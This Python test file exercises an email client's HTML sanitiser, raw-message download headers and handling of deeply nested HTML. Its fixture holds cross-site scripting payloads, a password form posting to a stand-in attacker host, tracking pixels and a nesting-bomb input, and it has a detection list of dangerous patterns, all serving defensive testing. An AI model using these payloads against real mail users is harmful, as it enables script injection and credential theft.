"""Message and draft HTML written by an attacker, over HTTP on the in-memory adapters: the API hands out a
sanitised copy, the original only as the raw message, and downloads tell a browser to run nothing of them."""

import asyncio
import time
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from adapters.memory.imap import FakeImapServer
from adapters.memory.store import MemoryStore
from tests.e2e.conftest import Login, account_body

PNG = b"\x89PNG\r\n\x1a\n fake logo"
HOSTILE_HTML = """<html><head><script>alert('head')</script><title>Hi</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="alert('body')">
<p onclick="alert('click')">Hello <b>Alice</b></p>
<a href="javascript:alert('link')">click me</a> <a href=" JaVaScRiPt:alert('spaced')">me too</a>
<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">data link</a>
<a href="https://example.com/ok">fine link</a>
<img src="https://tracker.example/pixel.gif" onerror="alert('img')" alt="pixel">
<img src="cid:logo@example.com" alt="logo">
<img src="cid:elsewhere@example.com" alt="not in this message">
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<div style="color: red; background-image: url(https://tracker.example/bg.gif)">styled</div>
</body></html>
"""
DANGEROUS = (
    "<script", "alert", "javascript:", "onload", "onclick", "onerror", "<form", "<input", "<iframe", "<object",
    "<svg", "<meta", "<base", "evil.example", "data:text", "bg.gif", "elsewhere",
)  # fmt: skip


def hostile_message() -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"] = "Mallory <mallory@example.com>"
    message["To"] = "alice@example.com"
    message["Subject"] = "Look at this"
    message["Date"] = "Tue, 24 Nov 2026 10:00:00 +0100"
    message["Message-ID"] = "<hostile-1@example.com>"
    message.set_content("plain version\n")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    html_part = message.get_payload()[1]
    html_part.add_related(PNG, maintype="image", subtype="png", cid="<logo@example.com>", filename="logo.png")
    return message.as_bytes()


async def synced_message(
    app: Litestar, client: AsyncTestClient[Litestar], login: Login, raw: bytes
) -> tuple[dict[str, str], dict[str, Any]]:
    server = await app.state.dishka_container.get(FakeImapServer)
    server.deliver("INBOX", raw)
    auth = await login()
    account = (await client.post("/api/accounts", json=account_body(), headers=auth)).json()
    await client.post(f"/api/sync/imap/{account['id']}", headers=auth)
    for _ in range(1000):
        items = (await client.get(f"/api/accounts/{account['id']}/messages", headers=auth)).json()["items"]
        if items:
            return auth, items[0]
        await asyncio.sleep(0.02)
    raise AssertionError("the message was not synced")


@pytest.fixture
async def hostile(app: Litestar, client: AsyncTestClient[Litestar], login: Login) -> dict[str, Any]:
    raw = hostile_message()
    auth, summary = await synced_message(app, client, login, raw)
    return {"auth": auth, "id": summary["id"], "raw": raw}


def assert_clean(html: str) -> None:
    found = [d for d in DANGEROUS if d in html.lower()]
    assert not found, f"{found} in {html}"


async def test_message_html_comes_back_without_scripts_handlers_forms_or_dangerous_urls(
    client: AsyncTestClient[Litestar], hostile: dict[str, Any]
) -> None:
    auth, url = hostile["auth"], f"/api/messages/{hostile['id']}"
    message = (await client.get(url, headers=auth)).json()
    assert_clean(message["html"])
    assert "<p>Hello <b>Alice</b></p>" in message["html"]
    assert '<a href="https://example.com/ok" rel="noopener noreferrer">fine link</a>' in message["html"]
    assert '<div style="color:red">styled</div>' in message["html"]
    assert message["text"] == "plain version\n"

    changed = await client.patch(url, json={"seen": True}, headers=auth)
    assert changed.status_code == 200
    assert changed.json()["html"] == message["html"]


async def test_remote_images_are_kept_and_marked_or_blocked_on_request(
    client: AsyncTestClient[Litestar], hostile: dict[str, Any]
) -> None:
    auth, url = hostile["auth"], f"/api/messages/{hostile['id']}"
    shown = (await client.get(url, headers=auth)).json()["html"]
    blocked = (await client.get(url, params={"remote_images": "false"}, headers=auth)).json()["html"]

    pixel = "https://tracker.example/pixel.gif"
    assert f'<img src="{pixel}" alt="pixel" data-remote-src="{pixel}">' in shown
    assert f'<img alt="pixel" data-remote-src="{pixel}">' in blocked
    assert f' src="{pixel}"' not in blocked
    assert_clean(blocked)


async def test_cid_images_point_at_the_attachment_that_serves_them(
    client: AsyncTestClient[Litestar], hostile: dict[str, Any]
) -> None:
    auth = hostile["auth"]
    for remote_images in ("true", "false"):
        message = (
            await client.get(f"/api/messages/{hostile['id']}", params={"remote_images": remote_images}, headers=auth)
        ).json()
        [logo] = [a for a in message["attachments"] if a["content_id"] == "logo@example.com"]
        logo_url = f"/api/messages/{hostile['id']}/attachments/{logo['id']}"
        assert f'<img src="{logo_url}" alt="logo">' in message["html"]
        assert '<img alt="not in this message">' in message["html"]

    picture = await client.get(logo_url, headers=auth)
    assert picture.content == PNG
    assert picture.headers["content-type"] == "image/png"


async def test_the_raw_message_stays_untouched_and_downloads_run_nothing(
    client: AsyncTestClient[Litestar], hostile: dict[str, Any]
) -> None:
    auth = hostile["auth"]
    message = (await client.get(f"/api/messages/{hostile['id']}", headers=auth)).json()
    raw = await client.get(f"/api/messages/{hostile['id']}/raw", headers=auth)
    attachment = await client.get(
        f"/api/messages/{hostile['id']}/attachments/{message['attachments'][0]['id']}", headers=auth
    )

    assert raw.content == hostile["raw"]
    assert b"<script>alert('head')</script>" in raw.content
    for download in (raw, attachment):
        assert download.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert download.headers["x-content-type-options"] == "nosniff"


async def test_draft_html_comes_back_sanitised_and_is_kept_as_written(
    app: Litestar, client: AsyncTestClient[Litestar], login: Login
) -> None:
    auth = await login()
    account = (await client.post("/api/accounts", json=account_body(), headers=auth)).json()
    body = {"account_id": account["id"], "to": ["bob@example.org"], "subject": "x", "html": HOSTILE_HTML}

    created = await client.post("/api/compose", json=body, headers=auth)
    assert created.status_code == 201, created.text
    draft_id = created.json()["id"]
    shown = (await client.get(f"/api/compose/{draft_id}", headers=auth)).json()
    saved = await client.post("/api/compose/draft", json={"id": draft_id, "subject": "y"}, headers=auth)
    changed = await client.put(f"/api/compose/{draft_id}", json={"subject": "z"}, headers=auth)

    for answer in (created.json(), shown, saved.json(), changed.json()):
        assert_clean(answer["html"])
        assert "<p>Hello <b>Alice</b></p>" in answer["html"]
    store = await app.state.dishka_container.get(MemoryStore)
    assert store.drafts[next(iter(store.drafts))].content.html == HOSTILE_HTML


async def test_a_message_of_deeply_nested_html_is_served_in_seconds(
    app: Litestar, client: AsyncTestClient[Litestar], login: Login
) -> None:
    """HTML5 tree builders take time quadratic in the nesting depth; the sanitiser gets bounded HTML."""
    nested = "<b onclick='alert(1)'>start</b>" + "<div>" * 199_000 + "the end"
    raw = b"From: m@example.com\r\nSubject: deep\r\nContent-Type: text/html\r\n\r\n" + nested.encode()
    auth, summary = await synced_message(app, client, login, raw)

    started = time.perf_counter()
    answer = await client.get(f"/api/messages/{summary['id']}", headers=auth)

    assert time.perf_counter() - started < 15
    assert answer.status_code == 200
    assert answer.json()["html"].startswith("<b>start</b>")
    assert answer.json()["html"].count("<div>") == 512
    assert "the end" in answer.json()["html"]
    assert any(w.startswith("HTML nested deeper than") for w in answer.json()["warnings"])
